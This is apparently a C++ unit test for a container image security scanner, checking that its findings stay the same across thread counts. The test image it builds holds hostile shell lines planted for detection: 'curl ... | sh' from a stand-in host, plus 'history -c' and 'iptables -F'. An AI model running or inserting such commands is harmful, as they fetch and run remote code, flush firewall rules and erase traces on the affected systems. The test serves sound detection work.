// Judging: the same facts give the same answer, however many threads look at them.
#include <gtest/gtest.h>

#include "detect/assess.hpp"
#include "scan/scan.hpp"
#include "support/layers.hpp"

namespace hullcheck::scan {
namespace {

// Scripts by the hundred, of which some say something; one is started.
ImageFacts image_of_scripts() {
  test::TarWriter tar;
  tar.file("etc/os-release", "ID=debian\nVERSION_ID=\"12\"\n");
  tar.file("entry.sh", "#!/bin/sh\nexec /opt/7.sh\n", {.mode = 0755});
  for (int i = 0; i < 400; ++i) {
    std::string body = "#!/bin/sh\necho " + std::to_string(i) + "\n";
    if (i % 7 == 0) body += "curl -s http://192.0.2.7/" + std::to_string(i) + " | sh\n";
    if (i % 11 == 0) body += "history -c\niptables -F\n";
    tar.file("opt/" + std::to_string(i) + ".sh", body, {.mode = 0755});
  }
  layers::AnalyseOptions options;
  options.sections = detect::layer_sections();
  options.scan = &detect::content_scan("");
  ImageFacts facts;
  facts.target = facts.image.reference = "example/app:1";
  facts.image.source = "archive";
  facts.image.config.present = true;
  facts.image.config.entrypoint = {"/entry.sh"};
  facts.layer_facts = {test::analyse(tar.finish(), options).facts};
  facts.image.layers = {{"key", "", facts.layer_facts[0]->diff_id, "", 0, false}};
  facts.layers = {{facts.layer_facts[0]->diff_id, "", "", 0, facts.layer_facts[0]->entries.size(), "", true}};
  return facts;
}

std::vector<std::string> said(const model::ScanResult& result) {
  std::vector<std::string> all;
  for (const auto* const findings : {&result.threats, &result.secrets, &result.checks, &result.warnings})
    for (const model::Finding& finding : *findings) {
      std::string text = finding.id + " " + finding.rule + " " + finding.locations.at(0).path;
      for (const auto* const list : {&finding.evidence, &finding.chain})
        for (const std::string& one : *list) text += " | " + one;
      all.push_back(std::move(text));
    }
  for (const model::Gap& gap : result.coverage.gaps) all.push_back(gap.id + " " + gap.subject + " " + gap.reason);
  return all;
}

TEST(Judge, ThreadsChangeNothing) {
  const ImageFacts facts = image_of_scripts();
  const policy::Policy policy = policy::built_in();
  util::Profile profile;
  JudgeOptions options;
  options.deterministic = true;
  const std::vector<std::string> alone = said(judge(facts, nullptr, policy, options, profile));
  EXPECT_GT(alone.size(), 50U);
  for (const std::size_t threads : {2U, 4U, 16U}) {
    options.threads = threads;
    EXPECT_EQ(said(judge(facts, nullptr, policy, options, profile)), alone) << threads;
  }
}

}  // namespace
}  // namespace hullcheck::scan
